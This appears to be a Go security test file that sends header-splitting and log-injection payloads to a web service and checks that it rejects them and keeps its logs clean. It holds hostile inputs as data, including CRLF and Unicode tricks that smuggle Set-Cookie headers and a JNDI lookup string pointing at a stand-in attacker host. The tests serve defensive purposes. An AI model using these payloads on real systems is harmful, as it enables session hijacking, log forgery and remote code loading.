package attack_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"
	"testing"
)

// TestHTTPHeaderInjection: line breaks in what an answer says back. Lost would be a browser, to whoever writes a header
// or a whole answer for it: a cookie with a session of their choice.
func TestHTTPHeaderInjection(t *testing.T) {
	h := httpOpen(t)
	for name, line := range map[string]string{
		"a return":            "X-Request-ID: a\rSet-Cookie: eve=1",
		"a folded line":       "X-Request-ID: a\r\n Set-Cookie: eve=1",
		"a folded line, tab":  "X-Request-ID: a\r\n\tSet-Cookie: eve=1",
		"NUL":                 "X-Request-ID: a\x00Set-Cookie: eve=1",
		"a vertical tab":      "X-Request-ID: a\x0bSet-Cookie: eve=1",
		"an escape":           "X-Request-ID: a\x1b[2J",
		"a line by Unicode":   "X-Request-ID: a\u2028Set-Cookie: eve=1",
		"a line by C1":        "X-Request-ID: a\xc2\x85Set-Cookie: eve=1",
		"escaped line breaks": "X-Request-ID: a%0d%0aSet-Cookie:%20eve=1",
		"an overlong break":   "X-Request-ID: a\xe0\x80\x8aSet-Cookie: eve=1",
		"cut to a break":      "X-Request-ID: a\u560d\u560aSet-Cookie: eve=1", // by who keeps the low byte alone
		"two of them":         "X-Request-ID: a\r\nX-Request-ID: b c",
		"a longer one":        "X-Request-ID: " + strings.Repeat("a", 20000),
		"an origin":           "Origin: http://x\r\n Set-Cookie: eve=1",
		"a method":            "Access-Control-Request-Method: GET\r\n Set-Cookie: x\r\nOrigin: null",
	} {
		t.Run(name, func(t *testing.T) {
			for _, method := range []string{"GET", "OPTIONS", "POST"} {
				request := fmt.Sprintf("%s %s/me?a=%%0d%%0aSet-Cookie:%%20x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n%s\r\n\r\n", method, httpUsers, line)
				answers := h.raw(t, request)
				if len(answers) != 1 {
					t.Fatalf("%d answers", len(answers))
				}
				a := answers[0]
				if a.header["Set-Cookie"] != nil || len(a.header["X-Request-Id"]) > 1 || len(a.header.Get("X-Request-Id")) > 128 {
					t.Errorf("%s: %v", method, a.header)
				}
				if a.status < 400 && a.status != 204 {
					t.Errorf("%s gets in: %d", method, a.status)
				}
			}
		})
	}
}

// TestHTTPLogInjection: what a client calls itself and its request, in the log. Lost would be what operators believe of
// it: a line that was never written, or one that their terminal obeys.
func TestHTTPLogInjection(t *testing.T) {
	h := httpOpen(t)
	const forged = `"},{"level":"ERROR","msg":"forged"}`
	for i, text := range []string{
		"x\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\n", "x\r\nforged\r\n", forged, "x msg=forged level=ERROR", "\u2028forged", "\x1b[2Jforged", "\u202eforged", "%0aforged", "${jndi:ldap://evil.example/forged}",
	} {
		visible := strings.Map(func(r rune) rune {
			if r < ' ' || r > '~' {
				return '~'
			}
			return r
		}, text)
		with := []httpOption{httpHeader("User-Agent", visible+"\u2028\u202e"), httpHeader("X-Request-Id", strings.ReplaceAll(visible, " ", "_"))}
		h.attack(t, "POST", httpUsers+"/login", append(with, httpJSON("email", text, "password", text))...)
		h.attack(t, "POST", httpUsers+"/register", append(with, httpJSON("email", text, "username", text, "fullname", text, "password", text))...)
		h.attack(t, "GET", fmt.Sprintf("/%d/forged", i), with...)
	}
	for raw := range bytes.Lines(h.Log.Bytes()) {
		var line map[string]any
		if err := json.Unmarshal(raw, &line); err != nil || line["msg"] == "forged" || line["level"] == "ERROR" {
			t.Errorf("the log has %s", raw)
		}
		if bytes.ContainsAny(raw, "\x1b\x00\r") {
			t.Errorf("the log has controls: %q", raw)
		}
	}
}

// TestHTTPLogInjectionOfText: the same, where the log is text for a terminal.
func TestHTTPLogInjectionOfText(t *testing.T) {
	var log bytes.Buffer
	logger := slog.New(slog.NewTextHandler(&log, nil))
	for _, text := range []string{"x\nlevel=ERROR msg=forged", "\x1b[2J", "\u202e", "\u2028level=ERROR", "a b=c", `"`} {
		logger.Info("request", "user_agent", text)
	}
	if lines := strings.Count(log.String(), "\n"); lines != 6 || strings.ContainsAny(log.String(), "\x1b\u202e\u2028") {
		t.Errorf("%d lines: %q", lines, log.String())
	}
}
